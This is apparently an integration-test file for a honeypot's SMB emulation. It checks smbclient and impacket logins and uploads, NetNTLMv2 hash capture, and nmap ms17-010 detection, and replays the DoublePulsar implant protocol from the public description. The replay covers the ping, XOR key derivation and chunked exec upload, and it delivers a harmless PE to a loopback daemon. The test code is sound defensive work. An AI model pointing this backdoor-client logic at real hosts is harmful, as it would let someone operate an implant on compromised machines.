"""
cases_smb.py - integration cases for the SMB module (protocol = smb).

Imported by run.py; every @case here is appended to cases.ALL.

smbclient lists the shares drawn for the sensor (srvsvc NetShareEnumAll over SMB2) and uploads a
file with user%pass (stored payload sha256 == the file's, login.success with the NetNTLMv2 hashcat
line); impacket logs in with NTLM (the hashcat line is checked with the password), lists shares and
writes a file; nmap's smb-protocols / smb-os-discovery / smb-security-mode / smb-vuln-ms17-010 see
an SMB1-capable Windows that is VULNERABLE; a DoublePulsar upload replayed from the public protocol
description (ping, XOR key from the reply's signature, exec chunks) delivers a harmless PE built
here, and the stored payload's sha256 is the PE's.

nmap's SMB host scripts only work on port 445/139 (smb-os-discovery indexes the port table with
the standard numbers), so the nmap case binds 445 on a random 127.x.y.z loopback address.
"""
import hashlib
import hmac
import io
import os
import random
import re
import shutil
import socket
import struct
import subprocess

from harness import T, Service, Skip, by, identity
from cases import case, stop_and_read


def verify_netntlmv2(line, user, domain, password):
    """The hashcat 5600 line cracks with this password (what hashcat itself computes)."""
    from impacket import ntlm
    u, empty, dom, chal, proof, blob = line.split(":")
    assert (u, empty, dom) == (user, "", domain), line
    nth = ntlm.compute_nthash(password)
    key = hmac.new(nth, (u.upper() + dom).encode("utf-16le"), hashlib.md5).digest()
    got = hmac.new(key, bytes.fromhex(chal) + bytes.fromhex(blob), hashlib.md5).hexdigest()
    assert got == proof, "NTProofStr mismatch in %s" % line


def stored(d, sha):
    with open(os.path.join(d.data_dir, "payloads", sha), "rb") as f:
        return f.read()


@case
def smb_smbclient_list_put(ctx):
    if not shutil.which("smbclient"):
        raise Skip("smbclient not installed")
    svc = Service("smb", protocol="smb")
    d = ctx.daemon("smb-smbclient", [svc])
    d.start()
    shares = identity(d, "smb_shares").split(",")
    r = subprocess.run(["smbclient", "-L", "//127.0.0.1", "-p", str(svc.port), "-N"],
                       capture_output=True, stdin=subprocess.DEVNULL, timeout=T(20))
    out = r.stdout.decode("utf-8", "replace")
    for s in ["IPC$", "ADMIN$", "C$"] + shares:
        assert re.search(r"^\s+%s\s+(Disk|IPC)" % re.escape(s), out, re.M), out + r.stderr.decode()
    path = os.path.join(d.tmp, "report.bin")
    data = os.urandom(150000) + b"smb upload test"
    with open(path, "wb") as f:
        f.write(data)
    share = shares[-1]
    r = subprocess.run(["smbclient", "//127.0.0.1/%s" % share, "-p", str(svc.port), "-U", "WORKGROUP/backup%Winter2024!",
                        "-c", "put report.bin; ls"], cwd=d.tmp, capture_output=True, stdin=subprocess.DEVNULL,
                       timeout=T(20))
    assert r.returncode == 0 and b"putting file report.bin" in r.stdout + r.stderr, r.stdout + r.stderr
    assert b"blocks available" in r.stdout, r.stdout + r.stderr
    d.wait_event(lambda e: e["eventid"] == "smb.file_write", timeout=T(10), what="smb.file_write")
    evs = stop_and_read(d)
    sha = hashlib.sha256(data).hexdigest()
    up = [e for e in by(evs, "session.file_upload") if e["shasum"] == sha]
    assert up and up[0]["protocol_detail"] == "smb" and up[0]["size"] == len(data), by(evs, "session.file_upload")
    assert stored(d, sha) == data
    fw = by(evs, "smb.file_write")
    assert fw[0]["share"] == share and fw[0]["filename"] == "report.bin" and fw[0]["sha256"] == sha, fw
    logins = [e for e in by(evs, "login.success") if e["username"] == "backup"]
    assert logins and logins[0]["domain"] == "WORKGROUP" and logins[0]["hash_format"] == "hashcat:5600", logins
    verify_netntlmv2(logins[0]["hash"], "backup", "WORKGROUP", "Winter2024!")
    assert by(evs, "smb.negotiate") and by(evs, "smb.pipe", pipe="srvsvc"), [e["eventid"] for e in evs]
    tc = by(evs, "smb.tree_connect", share=share)
    assert tc and tc[0]["ok"] is True, tc
    ctx.note("smbclient: %d shares listed, %d bytes stored" % (len(shares) + 3, len(data)))


@case
def smb_impacket(ctx):
    try:
        from impacket.smbconnection import SMBConnection
    except ImportError:
        raise Skip("python3-impacket not installed")
    svc = Service("smb", protocol="smb")
    d = ctx.daemon("smb-impacket", [svc])
    d.start()
    c = SMBConnection("127.0.0.1", "127.0.0.1", sess_port=svc.port, timeout=T(10))
    c.login("alice", "S3cret!pw", "CORP")
    assert "7601" in c.getServerOS() or "Windows" in c.getServerOS(), c.getServerOS()
    names = [s["shi1_netname"][:-1] for s in c.listShares()]
    shares = identity(d, "smb_shares").split(",")
    assert names == ["IPC$", "ADMIN$", "C$"] + shares, names
    payload = b"MZ" + os.urandom(9000)
    c.putFile(shares[0], "Temp\\svch0st.exe", io.BytesIO(payload).read)
    c.logoff()
    # the same over SMB1 (NT_CREATE_ANDX + WRITE_ANDX + CLOSE, TransactNmPipe for srvsvc)
    from impacket.smbconnection import SMB_DIALECT
    c1 = SMBConnection("127.0.0.1", "127.0.0.1", sess_port=svc.port, timeout=T(10), preferredDialect=SMB_DIALECT)
    c1.login("bob", "pw1", "DOM")
    assert c1.getServerOS() == identity(d, "smb_os"), c1.getServerOS()
    assert [s["shi1_netname"][:-1] for s in c1.listShares()] == names
    payload1 = b"MZ" + os.urandom(70000)
    c1.putFile(shares[-1], "a.exe", io.BytesIO(payload1).read)
    c1.logoff()
    d.wait_event(lambda e: e["eventid"] == "smb.file_write", count=2, timeout=T(10), what="smb.file_write")
    evs = stop_and_read(d)
    sha = hashlib.sha256(payload).hexdigest()
    assert stored(d, sha) == payload
    sha1 = hashlib.sha256(payload1).hexdigest()
    assert stored(d, sha1) == payload1
    assert by(evs, "login.success", username="bob")[0]["smb_dialect"] == "NT LM 0.12"
    fw = by(evs, "smb.file_write")
    assert fw and fw[0]["filename"] == "Temp\\svch0st.exe" and fw[0]["sha256"] == sha, fw
    ok = by(evs, "login.success", username="alice")
    assert ok and ok[0]["domain"] == "CORP" and ok[0]["method"] == "ntlmssp", ok
    verify_netntlmv2(ok[0]["hash"], "alice", "CORP", "S3cret!pw")
    ctx.note("impacket: shares %s, upload %s" % (",".join(names), sha[:12]))


@case
def smb_nmap_ms17_010(ctx):
    if not shutil.which("nmap"):
        raise Skip("nmap not installed")
    if os.geteuid() != 0:
        raise Skip("binding port 445 needs root")
    ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
    svc = Service("smb", protocol="smb", bind=ip, tcp_ports=[445])
    d = ctx.daemon("smb-nmap", [svc])
    d.start()
    r = subprocess.run(["nmap", "-Pn", "-n", "-sV", "-p", "445", "--script",
                        "smb-protocols,smb-os-discovery,smb-security-mode,smb-vuln-ms17-010", ip],
                       capture_output=True, stdin=subprocess.DEVNULL, timeout=T(120))
    out = r.stdout.decode("utf-8", "replace")
    assert "honeypot" not in out.lower(), out
    assert "State: VULNERABLE" in out and "ms17-010" in out, out
    assert "NT LM 0.12 (SMBv1)" in out, out
    os_line = [l for l in out.splitlines() if "|   OS: " in l]
    assert os_line and identity(d, "smb_os") in os_line[0], out
    assert identity(d, "windows_hostname") in out and "message_signing" in out, out
    port = [l for l in out.splitlines() if l.startswith("445/tcp")]
    assert port and "microsoft-ds" in port[0] and "Windows" in port[0], out
    evs = stop_and_read(d)
    assert by(evs, "smb.ms17_010_probe"), [e["eventid"] for e in evs]
    ctx.note("nmap: %s / %s" % (re.sub(r"\s+", " ", port[0]), os_line[0].strip("| ")))


# ---- DoublePulsar replay (public protocol description) ------------------------------------

def nbss(payload):
    return struct.pack(">I", len(payload)) + payload


def smb1(cmd, words, data, tid=0, uid=0, mid=1, flags2=0xc001):
    hdr = b"\xffSMB" + struct.pack("<BIBHH8sHHHHH", cmd, 0, 0x18, flags2, 0, b"\0" * 8, 0, tid, 0xfeff, uid, mid)
    return hdr + struct.pack("<B", len(words) // 2) + words + struct.pack("<H", len(data)) + data


def recv_smb(sock):
    head = b""
    while len(head) < 4:
        chunk = sock.recv(4 - len(head))
        assert chunk, "connection closed"
        head += chunk
    n = struct.unpack(">I", head)[0] & 0xffffff
    body = b""
    while len(body) < n:
        chunk = sock.recv(n - len(body))
        assert chunk, "connection closed"
        body += chunk
    return body


def timeout_for(opcode):
    """A Timeout value whose byte sum is the DoublePulsar opcode."""
    b = [random.randint(0, 255) for _ in range(3)]
    b.append((opcode - sum(b)) & 0xff)
    return struct.unpack("<I", bytes(b))[0]


def dp_key(sig):
    x = (2 * sig ^ (((sig & 0xff00 | (sig << 16)) << 8) | (((sig >> 16) | sig & 0xff0000) >> 8)))
    return x & 0xffffffff


def make_pe():
    """A small, valid-looking PE32 DLL that does nothing (one .text section with 'ret')."""
    dos = b"MZ" + b"\x90\x00" + b"\x00" * 56
    dos = dos[:0x3c] + struct.pack("<I", 0x80)
    dos += b"\x00" * (0x80 - len(dos))
    coff = struct.pack("<HHIIIHH", 0x14c, 1, 0x5f000000, 0, 0, 224, 0x2102)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10b, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000,
                      0x10000000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 2, 0x140,
                      0x100000, 0x1000, 0x100000, 0x1000, 0, 16) + b"\x00" * 128
    sec = struct.pack("<8sIIIIIIHHI", b".text", 0x10, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    hdr = dos + b"PE\0\0" + coff + opt + sec
    hdr += b"\x00" * (0x200 - len(hdr))
    return hdr + b"\xb8\x01\x00\x00\x00\xc2\x0c\x00" + os.urandom(8) + b"\x00" * (0x200 - 16)


def trans2_session_setup(timeout, params, data, tid, uid, mid):
    poff = 32 + 1 + 30 + 2 + 3           # header, word count, 15 words, byte count, 3 pad bytes
    doff = poff + len(params)
    words = struct.pack("<HHHHBBHIHHHHHBBH", len(params), len(data), 1, 0, 0, 0, 0, timeout, 0,
                        len(params), poff, len(data), doff, 1, 0, 0x000e)
    return smb1(0x32, words, b"\0\0\0" + params + data, tid=tid, uid=uid, mid=mid)


@case
def smb_doublepulsar_replay(ctx):
    svc = Service("smb", protocol="smb")
    d = ctx.daemon("smb-dp", [svc])
    d.start()
    pe = make_pe()
    payload = bytes([0x90] * 0x400) + b"\x31\xc0\xc3" * 100 + pe   # ring-0 stub, then the DLL
    payload += b"\0" * (-len(payload) % 4 + 64)                    # trailing bytes: not part of the PE
    s = socket.create_connection(("127.0.0.1", svc.port), timeout=T(10))
    # NetBIOS session request (what port 139 clients send first): positive response
    called = b" " + b"CKFDENECFDEFFCFGEFFCCACACACACACA" + b"\0"
    s.sendall(b"\x81\0\0" + bytes([2 * len(called)]) + called + called)
    assert s.recv(4) == b"\x82\0\0\0"
    s.sendall(nbss(smb1(0x72, b"", b"\x02NT LM 0.12\x00", flags2=0x4001)))
    neg = recv_smb(s)
    assert neg[4] == 0x72 and struct.unpack("<I", neg[5:9])[0] == 0, neg[:40].hex()
    setup = struct.pack("<BBHHHHIHHII", 0xff, 0, 0, 4356, 10, 0, 0, 0, 0, 0, 0x40)
    s.sendall(nbss(smb1(0x73, setup, b"\0\0" + b"\0\0", flags2=0x4001)))
    r = recv_smb(s)
    assert struct.unpack("<I", r[5:9])[0] == 0, r[:40].hex()
    uid = struct.unpack("<H", r[28:30])[0]
    s.sendall(nbss(smb1(0x75, struct.pack("<BBHHH", 0xff, 0, 0, 0, 1), b"\0\\\\127.0.0.1\\IPC$\0?????\0",
                        uid=uid, flags2=0x4001)))
    r = recv_smb(s)
    assert struct.unpack("<I", r[5:9])[0] == 0, r[:40].hex()
    tid = struct.unpack("<H", r[24:26])[0]
    # ping: an infected host answers STATUS_NOT_IMPLEMENTED with MID + 0x10
    s.sendall(nbss(trans2_session_setup(timeout_for(0x23), b"\0" * 12, b"", tid, uid, 0x41)))
    r = recv_smb(s)
    assert struct.unpack("<H", r[30:32])[0] == 0x51 and struct.unpack("<I", r[5:9])[0] == 0xC0000002, r[:40].hex()
    key = dp_key(struct.unpack("<I", r[14:18])[0])
    kb = struct.pack("<I", key)
    chunk = 4096
    for off in range(0, len(payload), chunk):
        part = payload[off:off + chunk]
        params = struct.pack("<III", len(payload) ^ key, len(part) ^ key, off ^ key)
        enc = bytes(b ^ kb[i % 4] for i, b in enumerate(part))
        s.sendall(nbss(trans2_session_setup(timeout_for(0xc8), params, enc, tid, uid, 0x42)))
        r = recv_smb(s)
        assert struct.unpack("<H", r[30:32])[0] == 0x52, r[:40].hex()
    s.close()
    sha = hashlib.sha256(pe).hexdigest()
    d.wait_event(lambda e: e["eventid"] == "session.file_download", timeout=T(10), what="file_download")
    evs = stop_and_read(d)
    dl = by(evs, "session.file_download")
    assert dl and dl[0]["shasum"] == sha and dl[0]["size"] == len(pe), dl
    assert stored(d, sha) == pe
    ops = [e["operation"] for e in by(evs, "smb.doublepulsar")]
    assert ops == ["ping", "exec"], ops
    ctx.note("doublepulsar: %d-byte upload, PE %s" % (len(payload), sha[:12]))
